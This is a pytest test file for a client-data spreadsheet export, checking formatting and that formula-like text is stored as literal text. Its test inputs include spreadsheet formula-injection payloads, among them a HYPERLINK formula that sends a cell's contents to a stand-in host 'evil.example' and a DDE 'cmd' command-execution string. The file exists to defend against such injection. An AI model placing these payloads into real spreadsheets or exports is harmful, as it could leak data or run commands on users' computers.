import io
from datetime import date, datetime

import openpyxl
import pytest

from ocms_data import clients
from ocms_data.clients import NAMED
from ocms_data.db import Database
from ocms_data.grid import GridQuery
from ocms_data.xlsx import as_text, table_workbook
from tests.conftest import copy_database
from tests.test_clients import named_values


def _book(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data)).active


def test_header_row_and_values():
    ws = _book(
        table_workbook("Clients", ["Name", "Count", "Since"], [["Amina", 3, date(2020, 1, 2)], ["Li", None, None]])
    )
    assert ws.title == "Clients"
    rows = list(ws.iter_rows(values_only=True))
    assert rows == [("Name", "Count", "Since"), ("Amina", 3, "2020-01-02"), ("Li", None, None)]
    assert ws["A1"].font.bold
    assert ws.freeze_panes == "A2"
    assert ws["B2"].data_type == "n"
    assert ws["C2"].data_type == "s"  # dates are written as YYYY-MM-DD text


def test_long_sheet_names_are_cut_to_excel_limit():
    ws = _book(table_workbook("x" * 40, ["h"], []))
    assert ws.title == "x" * 31
    assert list(ws.iter_rows(values_only=True)) == [("h",)]


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example","click")',
        "+1 416 555 0123",
        "-5",
        "-cmd|' /C calc'!A0",
        "@SUM(A1:A2)",
        "=",
        "\t=1+1",
    ],
)
def test_formula_like_text_stays_text(text):
    ws = _book(table_workbook("S", ["=header"], [[text]]))
    cell = ws["A2"]
    assert cell.data_type == "s"
    assert cell.value == text
    assert ws["A1"].data_type == "s"
    assert ws["A1"].value == "=header"


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@x"])
def test_formula_like_text_is_marked_as_literal(text):
    ws = _book(table_workbook("S", ["h"], [[text]]))
    assert ws["A2"].quotePrefix is True


def test_plain_text_is_not_quote_prefixed():
    ws = _book(table_workbook("S", ["h"], [["plain"], ["a=b"]]))
    assert ws["A2"].quotePrefix is False
    assert ws["A3"].value == "a=b"


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (None, None),
        (float("nan"), None),
        (date(2024, 2, 29), "2024-02-29"),
        (datetime(2024, 2, 29, 13, 5, 59), "2024-02-29 13:05"),
        (3.0, "3"),
        (3.5, "3.5"),
        (7, "7"),
        ("x", "x"),
    ],
)
def test_as_text(value, text):
    assert as_text(value) == text


@pytest.mark.parametrize(
    ("text", "parts"),
    [("line\x0bbreak", ("line", "break")), ("bell\x07", ("bell",)), ("nul\x00end", ("nul", "end"))],
)
def test_control_characters_do_not_break_the_workbook(text, parts):
    """A control character pasted into a comment must not make the whole export fail."""
    ws = _book(table_workbook("S", ["h"], [[text], ["next row"]]))
    value = ws["A2"].value
    assert value.startswith(parts[0])
    assert all(p in value for p in parts)
    assert ws["A3"].value == "next row"


@pytest.fixture(scope="module")
def shared_db(template_db, tmp_path_factory):
    path = tmp_path_factory.mktemp("xlsx") / "ocms.duckdb"
    copy_database(template_db, path)
    database = Database(path)
    yield database
    database.close()


@pytest.fixture
def db(shared_db):
    """The export tests each look only at the client they register: they share one database."""
    return shared_db


@pytest.mark.parametrize(
    ("name", "comment"),
    [
        ("Formulaic", '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'),
        ("Cmdinjecta", "=cmd|' /C calc'!A0"),
        ("Plussum", "+SUM(1,2)"),
        ("Atsign", "@here"),
    ],
)
def test_client_export_keeps_formula_like_comments_as_text(db, worker_a, name, comment):
    clients.register(db, worker_a, NAMED, named_values(db, worker_a, first_name=name, comments=comment))
    ws = _book(clients.grid_export(db, worker_a, GridQuery(search=name)))
    assert ws.max_row == 2
    header = [c.value for c in ws[1]]
    cell = ws.cell(row=2, column=header.index("Comments") + 1)
    assert cell.value == comment
    assert cell.data_type == "s"
